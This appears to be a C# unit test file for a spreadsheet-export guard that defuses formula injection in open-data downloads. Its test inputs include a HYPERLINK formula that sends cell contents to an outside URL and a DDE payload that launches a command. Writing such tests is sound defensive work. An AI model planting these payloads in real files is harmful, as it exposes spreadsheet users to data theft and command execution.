using CouncilSite.Editions.OpenData;
using CouncilSite.Tests.Harness;

namespace CouncilSite.Tests.Editions.OpenData;

public sealed class SpreadsheetCellTests
{
    [Theory]
    [InlineData("=HYPERLINK(\"https://example.com/?\"&A1)")]
    [InlineData("+1+cmd|' /C calc'!A0")]
    [InlineData("-1+1")]
    [InlineData("@SUM(A1:A9)")]
    [InlineData("＝1＋1")]
    [InlineData("＠SUM(A1)")]
    [InlineData("－見直し")]
    [InlineData("+81-43-223-0000")]
    [InlineData(" =1+1")]
    [InlineData("\t=1+1")]
    [InlineData("\r\n=1+1")]
    [InlineData("--1")]
    [InlineData("'=1+1")]
    public void Text_that_a_spreadsheet_would_run_gets_an_apostrophe(string text) => Assert.Equal("'" + text, SpreadsheetCell.Guard(text));

    [Theory]
    [InlineData("")]
    [InlineData("-9000")]
    [InlineData("+3.5%")]
    [InlineData("－１，２３４．５％")]
    [InlineData("－")]
    [InlineData("-")]
    [InlineData("×")]
    [InlineData("△")]
    [InlineData("規約=会則")]
    [InlineData("'80年代")]
    [InlineData("2021-07-01")]
    public void Numbers_signs_alone_and_other_text_stay_as_they_are(string text) => Assert.Equal(text, SpreadsheetCell.Guard(text));

    [Fact]
    public void Nothing_that_is_written_begins_like_a_formula_and_the_value_can_be_had_back() => GeneratedCases.Check(5_000, random =>
    {
        var text = RandomText.Next(random);
        var cell = SpreadsheetCell.Guard(text);
        Assert.True(cell == text || cell == "'" + text);
        Assert.Equal(cell != text, cell.StartsWith('\'') && SpreadsheetCell.Guard(cell) != cell && SpreadsheetCell.Guard(cell[1..]) == cell);
        if (cell.Trim().Length > 1 && !cell.Any(char.IsDigit))
            Assert.DoesNotContain(cell[0], "=+-@＝＋－＠\t\r\n\0");
    });
}
